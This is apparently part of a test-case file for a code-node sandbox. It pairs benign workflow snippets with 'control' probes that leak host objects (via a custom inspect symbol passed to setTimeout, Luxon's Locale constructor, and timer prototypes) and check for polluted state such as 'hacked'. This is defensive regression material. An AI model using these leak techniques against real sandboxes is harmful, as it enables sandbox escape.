  {
    "id": "l-loc-ctor-control",
    "code": "const L = DateTime.now().get('loc').constructor; const loc = L.create('en-US'); const m = loc.meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 20).toFormat('a') === 'QQ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-get-computed-control",
    "code": "const u = String($json.name).slice(0, 0) + 'lo' + 'c'; const m = DateTime.now().get(u).meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-interval-loc-control",
    "code": "const parts = Interval.fromDateTimes(DateTime.utc(2020,1,1), DateTime.utc(2020,1,3)).splitBy({ days: 1 }); const m = parts[0].start.get('loc').meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-dur-loc-control",
    "code": "const m = Duration.fromObject({ hours: 1 }).loc.meridiems();\nconst ok = (DateTime.utc(2020, 1, 1, 9).toFormat('a') === 'ZZ');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l-numfmt-control",
    "code": "const loc = DateTime.now().setLocale('de-DE').get('loc'); const nf = loc.numberFormatter({ padTo: 2, floor: true }); const inf = nf.inf;\nconst ok = (DateTime.utc(2020, 1, 1).setLocale('de-DE').toFormat('dd') === 'HK');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "f-refresh-write-everyday",
    "code": "let fired = 0; const t = setTimeout(() => { fired++; }, 5); t.refresh(); await new Promise((r) => setTimeout(r, 20)); return [{ json: { fired } }];",
    "node24": true
  },
  {
    "id": "i-defaultopts-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const ok = insp({ a: { b: 1 } }) === '{ a: [Object] }'; return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i-everyday-log-obj",
    "code": "const rows = $input.all().map(i => i.json); console.log('rows', rows.length, { first: rows[0] }); return rows.map(r => ({ json: r }));",
    "node24": true
  },
  {
    "id": "i2-defaultopts-setter-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {}\nconst ok = (insp({ a: { b: 1 } }) === '{ a: [Object] }');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-styles-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const st = insp.styles; const old = st.number;\nconst ok = (insp(5, { colors: true }) === '\\u001b[31m5\\u001b[39m');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-breaklen-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const { defaultOptions: d } = insp; const old = d.maxArrayLength;\nconst ok = (insp([1, 2, 3]).includes('more item'));\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-custom-sym-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {}\nconst ok = (insp.extraHelper === 42);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i2-opts-arg-control",
    "code": "let seen = []; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options) { seen.push(options); return 'x'; } }; try { setTimeout(bait, 1); } catch {} try { setTimeout(bait, 1); } catch {}\nconst ok = (seen[1].marker === 1);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "fd-push-global-control",
    "code": "const fd = new FormData(); fd.append('k', 'v'); let ok = false; fd.forEach(function () { ok = this.length === 3 && this[1] === 'k'; }, undefined); return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "fd-everyday",
    "code": "const fd = new FormData(); for (const it of $input.all()) fd.append('name', it.json.name); const out = []; fd.forEach((v, k) => out.push(k + '=' + v)); return [{ json: { out, n: [...fd.keys()].length } }];",
    "node24": true
  },
  {
    "id": "fd-everyday-fn",
    "code": "const fd = new FormData(); fd.append('a', '1'); fd.append('b', '2'); const pairs = {}; fd.forEach(function (value, key) { pairs[key] = value; }); return [{ json: pairs }];",
    "node24": true
  },
  {
    "id": "fd-everyday-thisarg",
    "code": "const fd = new FormData(); fd.append('a', '1'); const acc = { list: [] }; fd.forEach(function (v, k) { this.list.push(k); }, acc); return [{ json: acc }];",
    "node24": true
  },
  {
    "id": "i3-colors-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const red = insp.colors.red; const o0 = red[0];\nconst ok = (insp('s', { colors: true, stylize: undefined }).length >= 0 && insp.colors.red[0] === 35 && insp(new Date(NaN), { colors: true }).includes('[35m') || insp.colors.red[0] === 35);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i3-param-destr-control",
    "code": "let d; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, { defaultOptions }) { d = defaultOptions; return 'x'; } }; try { Buffer.from(bait); } catch {} let insp2; const b2 = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')]: (a, b, i) => { insp2 = i; return ''; } }; try { setTimeout(b2); } catch {} const old = d.depth;\nconst ok = (insp2({ a: { b: 1 } }) === '{ a: [Object] }');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "i3-insp-proto-control",
    "code": "let insp; const bait = { constructor: null, [Symbol.for('nodejs.util.inspect.custom')](depth, options, inspect) { insp = inspect; return 'x'; } }; try { setTimeout(bait, 1); } catch {} const p = insp.prototype;\nconst ok = (insp.prototype.marker === 1);\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "t3-timeout-proto-control",
    "code": "const t = setTimeout(() => {}, 1); const P = t.constructor.prototype; const old = P.hasRef;\nconst ok = (setTimeout(() => {}, 1).hasRef() === 'hacked');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "t3-imm-proto-control",
    "code": "const i = setImmediate(() => {}); const P = i.constructor.prototype; const old = P.hasRef;\nconst ok = (setImmediate(() => {}).hasRef() === 'hacked');\nreturn [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "l3-toobject",
    "code": "const o = DateTime.utc(2024, 3, 5, 10).toObject(); o.hour = 0; o.minute = 0; return [{ json: { iso: DateTime.fromObject(o, { zone: 'utc' }).toISO() } }];",
    "node24": true
  },
  {
    "id": "l3-splitby",
    "code": "const iv = Interval.fromDateTimes(DateTime.utc(2024, 1, 1), DateTime.utc(2024, 1, 4)); const parts = iv.splitBy({ days: 1 }); parts.push(Interval.after(DateTime.utc(2024, 1, 4), { days: 1 })); parts.sort((a, b) => a.start - b.start); return parts.map((p) => ({ json: { day: p.start.toISODate() } }));",
    "node24": true
  },
  {
    "id": "l3-dur-obj",
    "code": "const d = Duration.fromObject({ hours: 2, minutes: 30 }); const o = d.shiftTo('minutes').toObject(); o.minutes += 15; return [{ json: { o, human: Duration.fromObject(o).toHuman() } }];",
    "node24": true
  },
  {
    "id": "l3-resolved",
    "code": "const r = DateTime.utc(2024, 1, 1).resolvedLocaleOptions(); r.locale = r.locale.toUpperCase(); return [{ json: r }];",
    "node24": true
  },
  {
    "id": "l3-divide",
    "code": "const iv = Interval.fromDateTimes(DateTime.utc(2024, 1, 1), DateTime.utc(2024, 1, 2)); const slots = iv.divideEqually(4); slots.reverse(); const merged = Interval.merge(slots); const diff = iv.difference(slots[0]); diff.push(slots[1]); return [{ json: { n: slots.length, m: merged.length, d: diff.length } }];",
    "node24": true
  },
  {
    "id": "l3-get-unit",
    "code": "const unit = $json.field === 'name' ? 'year' : 'month'; const dt = DateTime.fromISO('2024-05-06T07:08:09Z', { zone: 'utc' }); return [{ json: { v: dt.get(unit), w: dt.get('weekday'), h: Duration.fromObject({ hours: 3 }).get('hours'), u: Duration.normalizeUnit('Hour') } }];",
    "node24": true
  },
  {
    "id": "ev-isplain",
    "code": "const isPlain = (v) => v !== null && typeof v === 'object' && Object.getPrototypeOf(v) === Object.prototype; return $input.all().map((i) => ({ json: { id: i.json.id, plain: isPlain(i.json), tagsPlain: isPlain(i.json.tags) } }));",
    "node24": true
  },
  {
    "id": "ev-descriptors",
    "code": "const src = { a: 1, get b() { return this.a + 1; } }; const copy = Object.defineProperties({}, Object.getOwnPropertyDescriptors(src)); return [{ json: { b: copy.b } }];",
    "node24": true
  },
  {
    "id": "ev-reflect-get",
    "code": "const f = $parameter.field || 'name'; return $input.all().map((i) => ({ json: { v: Reflect.get(i.json, f) } }));",
    "node24": true
  },
  {
    "id": "j-host-push-write-control",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const insp = bait[2]; const d = insp.defaultOptions; const ok = insp({ a: { b: 1 } }) === '{ a: [Object] }'; return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "k-push-styles-control",
    "code": "const bait = []; bait.constructor = null; bait[Symbol.for('nodejs.util.inspect.custom')] = [].push; try { setTimeout(bait); } catch {} const st = bait[2].styles; const ok = bait[2]('a', { colors: true }).startsWith('\\u001b[31m'); return [{ json: { wrote: ok } }];",
    "node24": true
  },
  {
    "id": "ev-debounce",
    "code": "let timer; let calls = 0; const debounced = (fn, ms) => (...a) => { clearTimeout(timer); timer = setTimeout(() => fn(...a), ms); }; const bump = debounced(() => { calls++; }, 5); bump(); bump(); bump(); await new Promise((r) => setTimeout(r, 30)); return [{ json: { calls } }];",
    "node24": true
  },
  {
    "id": "ev-retry",
    "code": "const sleep = (ms) => new Promise((r) => setTimeout(r, ms)); let attempt = 0; let result; while (attempt < 3) { attempt++; try { if (attempt < 3) throw new Error('flaky'); result = 'ok'; break; } catch (e) { await sleep(2 ** attempt); } } return [{ json: { attempt, result } }];",
    "node24": true
  },
  {
    "id": "ev-timeout-race",
    "code": "let t; const timeout = new Promise((_, rej) => { t = setTimeout(() => rej(new Error('timeout')), 1000); }); const work = new Promise((r) => setImmediate(() => r(42))); const v = await Promise.race([work, timeout]); clearTimeout(t); return [{ json: { v, ref: t.hasRef() } }];",
    "node24": true
  },
  {
    "id": "ev-interval-poll",
    "code": "let n = 0; await new Promise((res) => { const iv = setInterval(() => { n++; if (n === 3) { clearInterval(iv); res(); } }, 2); }); return [{ json: { n } }];",
    "node24": true
  },
  {
    "id": "ev-this-cb",
    "code": "const enc = new TextEncoder().encode($json.name); const b64 = Buffer.from(enc).toString('base64'); const back = new TextDecoder().decode(Buffer.from(b64, 'base64')); await new Promise(function (r) { setTimeout(function () { r(); }, 1); }); return [{ json: { b64, back, a: btoa('hi'), d: atob(btoa('hi')) } }];",
    "node24": true
  },
  {
    "id": "ev-luxon-format",
    "code": "const d = DateTime.fromISO('2024-03-10T15:30:00Z').setZone('Europe/Berlin'); const diff = d.diff(DateTime.fromISO('2024-01-01T00:00:00Z'), ['days', 'hours']).toObject(); return [{ json: { f: d.toFormat('yyyy-MM-dd HH:mm a'), l: d.toLocaleString(DateTime.DATETIME_MED), diff, wk: d.startOf('week').toISODate(), rel: d.toRelative({ base: d.plus({ days: 2 }) }) } }];",
    "node24": true
  },
  {
    "id": "ev-groupby",
    "code": "class Bucket { constructor(k) { this.key = k; this.items = []; } add(x) { this.items.push(x); return this; } } const groups = $input.all().reduce((acc, { json }) => { const k = json.tags[0]; (acc[k] ??= new Bucket(k)).add(json.id); return acc; }, {}); return Object.values(groups).map((b) => ({ json: JSON.parse(JSON.stringify(b)) }));",
    "node24": true
  }
];

export const ROUND35_REPORTED: string[] = ["l-zone-proto-control","i3-param-destr-control","ev-isplain","ev-descriptors","ev-reflect-get","j-host-push-write-control","k-push-styles-control"];
